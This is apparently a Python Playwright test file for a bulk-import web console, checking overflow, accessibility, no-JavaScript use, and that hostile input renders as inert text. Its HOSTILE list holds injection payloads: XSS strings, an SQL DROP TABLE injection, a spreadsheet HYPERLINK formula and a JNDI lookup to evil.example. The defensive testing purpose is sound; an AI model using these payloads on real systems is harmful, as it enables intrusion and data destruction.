"""How pages look in a real browser: nothing overflows, everybody can use them, and hostile text stays text."""

from typing import Any

import pytest
from playwright.sync_api import Browser, ConsoleMessage

from bulk_pipelines.database.pool import transaction
from bulk_pipelines_tests.scenes.api import Api
from bulk_pipelines_tests.scenes.browser import logged_in
from bulk_pipelines_tests.scenes.furnished import Furnished
from bulk_pipelines_tests.scenes.pages import PAGES, place_of
from bulk_pipelines_tests.scenes.whole_imports import begun, worked
from bulk_pipelines_tests.servers import chromium

pytestmark = pytest.mark.long

WIDTHS = (1440, 1280, 820, 360)
OVER = """
    const wide = each => each.scrollWidth - each.clientWidth;
    const tables = window.innerWidth > 1000 ? [...document.querySelectorAll(".scroll.loose")].map(wide) : [];
    return Math.max(document.documentElement.scrollWidth - window.innerWidth, ...tables);
"""
"""How many pixels the page is too wide, or on a desk a table that nobody expects to scroll."""
RULES = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"]
HOSTILE = [
    "<script>document.title='hacked'</script>",
    "<img src=x onerror=\"document.title='hacked'\">",
    "'\"><svg onload=document.title='hacked'>",
    "javascript:document.title='hacked'",
    "{{ 7 * 7 }}{% raw %}",
    "</textarea><script>document.title='hacked'</script>",
    "</title></style><iframe src=javascript:alert(1)>",
    "\u202egnp.exe",
    "a\u200bb\ufeffc",
    '=HYPERLINK("http://evil.example")',
    "x" * 400,
    "Ä̴͓̈ͅö̷́ \U0001f469\u200d\U0001f469\u200d\U0001f467 ﷽ ﷽ ﷽",
    "'; DROP TABLE job; --",
    "%s%n${jndi:ldap://evil.example}",
    "onmouseover=alert(1) x",
    "&lt;b&gt;&amp;#x3c;",
]


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_no_page_is_hard_to_use_overflows_or_breaks_its_policy(
    browser: Browser, api: Api, made: Furnished, scheme: str
) -> None:
    source = chromium.AXE.read_text()
    context = logged_in(browser, api, color_scheme=scheme)
    page = context.new_page()
    said: list[str] = []
    page.on("console", lambda message: said.append(text_of(message)))
    page.on("pageerror", lambda error: said.append(str(error)))
    wrong: dict[str, Any] = {}
    for name in PAGES:
        page.set_viewport_size({"width": WIDTHS[0], "height": 900})
        page.goto(api.url + place_of(name, made))
        page.evaluate("() => document.querySelectorAll('details').forEach(each => { each.open = true; })")
        page.evaluate(source)
        found = page.evaluate("rules => axe.run(document, {runOnly: rules})", RULES)
        for each in found["violations"]:
            wrong[f"{name}: {each['id']}"] = [node["html"][:200] for node in each["nodes"]][:3]
        for width in WIDTHS:
            page.set_viewport_size({"width": width, "height": 900})
            over = page.evaluate(f"() => {{ {OVER} }}")
            if over > 0:
                wrong[f"{name} at {width}"] = f"{over} pixels too wide"
    assert wrong == {}
    assert [each for each in said if "404" not in each and "verbose" not in each] == []
    context.close()


def text_of(message: ConsoleMessage) -> str:
    return f"{message.type}: {message.text}"


def test_hostile_text_is_shown_and_does_nothing(browser: Browser, api: Api, made: Furnished) -> None:
    lines = "".join(f",{quoted(text)},{quoted(text)},{quoted(text)},maybe\n" for text in HOSTILE)
    job = worked(made.engine, begun(made.engine, made.users("hostile.csv", lines, owner=HOSTILE[0])))
    with transaction(made.engine) as connection:
        connection.execute("UPDATE import_file SET source = %s WHERE job_id = %s", [HOSTILE[1], job.job_id])
        connection.execute(
            "UPDATE job SET last_error = %s, request_id = %s, idempotency_key = %s WHERE job_id = %s",
            [" ".join(HOSTILE), HOSTILE[2], HOSTILE[3], job.job_id],
        )
        for text in HOSTILE:
            connection.execute(
                "INSERT INTO audit (actor, origin, address, request_id, action, job_key, kind, owner, details)"
                " VALUES (%s, 'api', NULL, NULL, %s, %s, 'import_users', %s, jsonb_build_object(%s::text, %s::text))",
                [text[:200], text[:100], job.job_key, text[:200], text, text],
            )
        processed = made.jobs["processed"]
        connection.execute(
            "UPDATE job_item SET input = jsonb_build_object('title', %s::text, 'brand', %s::text),"
            " result = jsonb_set(jsonb_set(result, '{grid,Title}', to_jsonb(%s::text)),"
            " '{evidence,reason}', to_jsonb(%s::text)) WHERE job_id = %s",
            [HOSTILE[0], HOSTILE[5], HOSTILE[1], HOSTILE[4], processed.job_id],
        )
        connection.execute("UPDATE file_drop SET path = %s || drop_id, note = %s", [HOSTILE[1], HOSTILE[2]])
        connection.execute("UPDATE claim SET owner = %s", [HOSTILE[0]])
        connection.execute(
            "UPDATE job_item SET error_message = %s, item_key = %s || item_id WHERE status = 'DLQ'",
            [HOSTILE[1], HOSTILE[5]],
        )
    api.key(HOSTILE[1][:200])
    api.key(HOSTILE[7])
    context = logged_in(browser, api)
    page = context.new_page()
    said: list[str] = []
    page.on("dialog", lambda dialog: said.append(dialog.message))
    page.on("console", lambda message: said.append(text_of(message)))
    key = job.job_key
    places = [f"/console/jobs/{key}", f"/console/jobs/{key}/rejects", f"/console/jobs/{key}/audit", "/console/audit"]
    places += ["/console/jobs", f"/console/jobs/{processed.job_key}/grid", f"/console/jobs/{processed.job_key}/items"]
    places += [f"/console/jobs/{processed.job_key}/items/{made.item_of('processed')}", "/console/pending?status=ERROR"]
    places += [f"/console/jobs?text={text[:50]}" for text in HOSTILE[:4]]
    places += [place_of(name, made) for name in PAGES if name not in ("login", "not-there")]
    for place in places:
        for width in (1440, 360):
            page.set_viewport_size({"width": width, "height": 900})
            page.goto(api.url + place)
            assert page.title().endswith("· bulk"), place
            assert page.locator("iframe").count() == 0
            assert page.evaluate("document.documentElement.scrollWidth - window.innerWidth") <= 0, (place, width)
    page.goto(f"{api.url}/console/jobs/{key}/rejects")
    assert page.locator("input.cell").nth(1).input_value() == HOSTILE[0]
    page.goto(f"{api.url}/console/jobs/{processed.job_key}/grid")
    assert HOSTILE[1] in page.locator("td.data").first.inner_text()
    assert said == []
    context.close()


def quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def test_pages_are_read_without_javascript(browser: Browser, api: Api, made: Furnished) -> None:
    context = logged_in(browser, api, java_script_enabled=False)
    page = context.new_page()
    for name in PAGES:
        page.goto(api.url + place_of(name, made))
        assert page.locator("h1").first.is_visible(), name
    page.goto(f"{api.url}/console/jobs")
    page.locator("select[name=state]").select_option("PAUSED")
    page.get_by_role("button", name="Filter").click()
    assert page.locator("tbody tr").count() == 1
    page.locator("tbody th a").click()
    page.get_by_role("link", name="Resume").click()
    page.get_by_role("button", name="Resume").click()
    assert page.get_by_text("The job goes on").is_visible()
    jobs_again = made.jobs["paused"].job_key
    page.goto(f"{api.url}/console/jobs/{jobs_again}/audit")
    assert page.get_by_text("resume").first.is_visible()
    context.close()
